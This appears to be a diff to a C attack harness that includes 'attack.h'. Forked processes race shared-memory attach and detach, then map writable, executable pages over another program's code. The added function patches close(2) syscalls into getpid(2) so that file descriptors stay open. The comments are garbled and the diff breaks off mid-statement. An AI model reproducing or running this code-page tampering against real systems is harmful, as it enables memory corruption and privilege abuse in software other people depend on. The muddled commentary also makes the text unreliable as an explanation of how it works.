@@ -1,4 +1,5 @@
-// Maps something else over the page of code that callers run, sealed or garbage, and attaches on.
+// Maps something else over the page of code that callers run, sealed, garbage, or code that keeps
+// the descriptor of each attach, and attaches on: from a call site that leads there.
 #include "attack.h"
 
 static bool find_page(unsigned long* start) {
@@ -14,16 +15,31 @@ static bool find_page(unsigned long* start) {
   return found;
 }
 
+// The same code, but for close(2), of which getpid(2) is made.
+static void keep_descriptors(unsigned long start) {
+  static const unsigned char closes[] = {0xb8, 3, 0, 0, 0, 0x0f, 0x05};
+  static unsigned char code[PAGE];
+  memcpy(code, (void*)start, PAGE);
+  for (size_t at = 0; at + sizeof closes < PAGE; ++at) {
+    if (memcmp(code + at, closes, sizeof closes) == 0) code[at + 1] = 39;
+  }
+  void* const page = mmap((void*)start, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
+                          MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+  if (page != MAP_FAILED) memcpy(page, code, PAGE);
+}
+
 static void replace_for_ever(void* segment, int number) {
   for (int round = number; !time_is_up(); ++round) {
     const pid_t pid = fork();
     if (pid == 0) {
-      for (int i = 0; i < 12; ++i) {
+      for (int i = 0; i < 40; ++i) {
         const long at = shm_at(*(int*)segment, NULL, 0);
         if (at != -1) shm_dt((void*)at);
       }
       unsigned long start = 0;
-      if (find_page(&start)) {
+      if (find_page(&start) && round % 7 == 6) {
+        keep_descriptors(start);
+      } else if (start != 0) {
         char* const page = mmap((void*)start, 2 * PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
                                 MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
         if (page != MAP_FAILED)
